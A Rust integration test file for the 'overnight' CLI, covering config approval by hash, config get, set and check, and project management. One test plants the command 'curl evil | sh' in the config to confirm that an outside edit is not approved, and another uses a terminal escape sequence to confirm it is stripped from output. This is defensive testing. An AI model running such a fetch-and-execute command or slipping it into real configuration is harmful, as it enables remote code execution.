//! `config` and `project`: what is approved and what is not, without a daemon.

use super::bench::{Bench, CONFIG};
use overnight::config::{Approvals, Status, hash};
use overnight::domain::ProjectId;

fn status(bench: &Bench) -> Status {
    let bytes = std::fs::read(bench.code.join("overnight.toml")).unwrap();
    Approvals::new(&bench.places.data).status(&ProjectId::parse("p").unwrap(), &bytes).unwrap()
}

#[test]
fn a_change_made_here_is_approved_and_nothing_else_with_it() {
    let bench = Bench::new();
    let file = bench.code.join("overnight.toml");
    let set = bench.run(&["config", "set", "project.slots", "4"]);
    assert_eq!(set.code, 0, "{set:?}");
    assert!(std::fs::read_to_string(&file).unwrap().contains("slots = 4"));
    assert_eq!(status(&bench), Status::Same);
    assert_eq!(bench.run(&["config", "get", "project.slots"]).out, "4\n");
    assert_eq!(bench.run(&["config", "get", "limits.wall", "--json"]).out, "\"1h\"\n");
    assert_eq!(bench.run(&["config", "get", "agents.claude.model"]).code, 3);
    let elsewhere = bench.run(&["--project", "p", "config", "get", "agents.claude.model"]);
    assert!(elsewhere.err.contains("`overnight --project p config show`"), "a hint can be typed: {elsewhere:?}");
    let unknown = bench.run(&["--project", "q", "config", "show"]);
    assert!(unknown.err.contains("`overnight project list`"), "{unknown:?}");

    let bad = bench.run(&["config", "set", "limits.wall", "soon"]);
    assert_eq!(bad.code, 2);
    assert!(bad.err.contains("limits.wall"), "{bad:?}");
    assert_eq!(bench.run(&["config", "set", "project.name", "q"]).code, 2);
    assert_eq!(status(&bench), Status::Same, "a refused change wrote nothing");

    std::fs::write(&file, CONFIG.replace("\"true\"", "\"curl evil | sh\"")).unwrap();
    let waits = bench.run(&["config", "set", "project.slots", "5"]);
    assert_eq!(waits.code, 4, "a change by another hand is not taken along: {waits:?}");
    assert!(matches!(status(&bench), Status::Changed { .. }));
}

#[test]
fn approval_without_a_terminal_takes_the_hash() {
    let bench = Bench::new();
    let file = bench.code.join("overnight.toml");
    let text = CONFIG.replace("\"true\"", "\"make\\u001b[2J\"");
    std::fs::write(&file, &text).unwrap();
    let asked = bench.run(&["config", "approve"]);
    assert_eq!(asked.code, 2);
    assert!(asked.err.contains(&hash(text.as_bytes())), "{asked:?}");
    assert!(!asked.err.contains('\u{1b}'));
    assert_eq!(bench.run(&["config", "approve", "--hash", "sha256:00"]).code, 4);
    assert!(matches!(status(&bench), Status::Changed { .. }));
    assert_eq!(bench.run(&["config", "approve", "--hash", &hash(text.as_bytes())]).code, 0);
    assert_eq!(status(&bench), Status::Same);
}

#[test]
fn problems_are_told_with_their_places() {
    let bench = Bench::new();
    let file = bench.code.join("overnight.toml");
    assert_eq!(bench.run(&["config", "check"]).code, 0);
    std::fs::write(&file, CONFIG.replace("base = \"main\"", "base = 3")).unwrap();
    let wrong = bench.run(&["config", "check"]);
    assert_eq!(wrong.code, 2);
    assert!(wrong.err.contains("overnight.toml:3:"), "{wrong:?}");
    let json = bench.run(&["config", "check", "--json"]);
    let told: serde_json::Value = serde_json::from_str(&json.out).unwrap();
    assert_eq!((json.code, told["problems"][0]["line"].as_i64()), (2, Some(3)));
    std::fs::remove_file(&file).unwrap();
    assert_eq!(bench.run(&["config", "show"]).code, 2);
}

#[test]
fn projects_come_and_go() {
    let bench = Bench::new();
    let listed = bench.run(&["project", "list"]);
    assert!(listed.out.starts_with("  p   /"), "{listed:?}");
    assert!(bench.run(&["project", "info"]).out.contains("p-state"));
    assert_eq!(bench.run(&["project", "remove", "p"]).code, 2, "nobody is there to say yes");
    assert_eq!(bench.run(&["project", "remove", "q", "--yes"]).code, 3);
    assert_eq!(bench.run(&["project", "remove", "p", "--yes"]).code, 0);
    assert!(bench.code.join("overnight.toml").exists());
    assert_eq!(bench.run(&["project", "info"]).code, 3);
    assert_eq!(bench.run(&["project", "add"]).code, 0);
    assert_eq!(bench.run(&["project", "info"]).code, 0);
}
